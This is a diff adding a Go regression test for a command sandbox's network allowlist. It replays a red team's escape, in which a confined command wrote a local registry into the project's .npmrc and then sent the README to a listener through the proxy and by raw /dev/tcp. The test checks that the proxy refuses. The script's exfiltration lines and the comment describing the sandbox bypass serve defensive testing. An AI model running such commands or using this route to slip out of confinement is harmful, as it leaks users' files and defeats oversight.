@@ -148,3 +148,54 @@ func stopDaemons(sd string) {
 		os.Remove(s)
 	}
 }
+
+// TestNetworkProjectRegistryIgnored: a registry named by a file of the
+// project (its .npmrc, which a confined command may write) is not on the
+// allowlist: the red team's break, where a confined command wrote
+// registry=http://127.0.0.1:PORT/ into the project's .npmrc and the next
+// confined command sent the README to a listener there, through the proxy
+// and by raw TCP to the port then forwarded into its namespace.
+func TestNetworkProjectRegistryIgnored(t *testing.T) {
+	if testing.Short() {
+		t.Skip("-short: runs confined commands")
+	}
+	bin := confinedBuild(t)
+	proxy := filepath.Join(filepath.Dir(bin), "safezone-proxy")
+	if out, err := exec.Command("go", "build", "-o", proxy, "./cmd/safezone-proxy").CombinedOutput(); err != nil {
+		t.Fatalf("building safezone-proxy: %v\n%s", err, out)
+	}
+	var mu sync.Mutex
+	var got []string
+	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		got = append(got, string(b))
+		mu.Unlock()
+	}))
+	t.Cleanup(s.Close)
+	victim := s.Listener.Addr().String()
+	root := attackFixture(t)
+	t.Cleanup(func() { stopDaemons(filepath.Join(root, "state")) })
+	if d, why, _ := hookCall(t, bin, root, `printf 'registry=http://`+victim+`/\n' > .npmrc`); d != "allow" {
+		t.Fatalf("writing .npmrc: %s %.200s", d, why)
+	}
+	_, port, _ := net.SplitHostPort(victim)
+	script := "exec 3<>/dev/tcp/127.0.0.1/" + port + " && printf 'POST / HTTP/1.0\\r\\nContent-Length: 5\\r\\n\\r\\nLEAK2' >&3\n" +
+		"curl -sS --fail --max-time 5 --noproxy '' -x http://127.0.0.1:3128 --data-binary @README.md http://" + victim + "/x\n"
+	if err := os.WriteFile(filepath.Join(root, "proj", "x.sh"), []byte(script), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	d, why, out := hookCall(t, bin, root, "bash x.sh")
+	if d != "allow" {
+		t.Fatalf("bash x.sh: %s %.200s", d, why)
+	}
+	t.Logf("bash x.sh: %s", out)
+	mu.Lock()
+	defer mu.Unlock()
+	if len(got) != 0 {
+		t.Fatalf("a registry the project's .npmrc names was reached: the listener got %q", got)
+	}
+	if !strings.Contains(out, "403") {
+		t.Errorf("the proxy did not refuse (the test proves nothing): %s", out)
+	}
+}
